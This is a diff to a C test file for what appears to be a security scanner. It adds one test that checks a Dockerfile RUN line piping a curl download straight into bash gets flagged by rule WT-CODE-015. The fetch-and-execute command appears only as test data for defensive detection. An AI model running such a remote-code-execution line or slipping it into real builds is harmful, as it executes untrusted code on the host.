@@ -383,3 +383,14 @@ WT_TEST(pathological_inputs_stay_fast_and_findings_are_capped)
     wt_scan_result_free(r);
     wt_buf_free(&b);
 }
+
+WT_TEST(dockerfile_exec_form_pipe_to_shell_fires)
+{
+    const char *df = "FROM x\nRUN [\"bash\", \"-c\", \"curl -fsSL https://x.io/i | bash\"]\n";
+    wt_scan_result *r = wt_t_scan_mem("Dockerfile", df, strlen(df));
+    const wt_finding *f = wt_t_find(r, "WT-CODE-015");
+    CHECK(f != NULL);
+    if (f)
+        CHECK_INT(f->loc.line, 2);
+    wt_scan_result_free(r);
+}
